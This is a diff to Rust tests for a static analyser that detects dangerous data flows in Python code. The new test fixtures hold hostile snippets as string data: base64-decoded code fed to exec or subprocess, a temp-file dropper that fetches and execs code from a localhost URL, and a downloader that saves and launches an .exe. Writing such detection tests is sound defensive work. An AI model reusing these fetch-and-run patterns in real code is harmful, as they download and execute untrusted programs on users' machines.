@@ -11,8 +11,11 @@ fn flows(source: &str) -> Vec<(Source, Sink)> {
         .collect()
 }
 
+/// Whether data of `from` reaches `to`; decoded data of unknown origin counts as decoded.
 fn has(source: &str, from: Source, to: Sink) -> bool {
-    flows(source).contains(&(from, to))
+    flows(source).iter().any(|&(s, k)| {
+        k == to && (s == from || (from == Source::Decoded && s == Source::DecodedArg))
+    })
 }
 
 #[test]
@@ -224,7 +227,7 @@ fn docstrings_and_comments_are_inert_unless_read() {
 
 #[test]
 fn python2_and_broken_code_still_analysed() {
-    let a = analyse("print 'x'\nimport base64\nexec(base64.b64decode(s))\n");
+    let a = analyse("print 'x'\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
     assert!(a.errors > 0);
     assert!(
         a.flows
@@ -283,7 +286,8 @@ fn arithmetic_and_char_picking_fold() {
     assert!(
         a.flows
             .iter()
-            .any(|f| f.source == Source::Decoded && f.sink == Sink::Exec),
+            .any(|f| matches!(f.source, Source::Decoded | Source::DecodedArg)
+                && f.sink == Sink::Exec),
         "{a:?}"
     );
     let a = analyse(
@@ -329,5 +333,24 @@ fn shapes_the_corpus_cases_found() {
         "import base64, subprocess, sys\n_c = base64.b64decode(blob).decode()\nsubprocess.Popen([sys.executable, '-c', _c])",
         Source::Decoded,
         Sink::Exec
+    ));
+}
+
+#[test]
+fn droppers_of_code_and_programs() {
+    // a one-liner written to a temporary file and started
+    let a = analyse(
+        "from tempfile import NamedTemporaryFile as f\nt = f(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen('http://127.0.0.1:9/x').read())\")",
+    );
+    assert!(
+        a.flows
+            .iter()
+            .any(|f| f.source == Source::Network && f.sink == Sink::Exec)
+    );
+    // a response streamed into a file that is then run
+    assert!(has(
+        "import requests, shutil, subprocess\ndef dl(u):\n    r = requests.get(u, stream=True)\n    p = 'C:/Temp/x.exe'\n    with open(p, 'wb') as f:\n        shutil.copyfileobj(r.raw, f)\n    return p\nsubprocess.Popen([dl(u)])",
+        Source::Download,
+        Sink::Process
     ));
 }
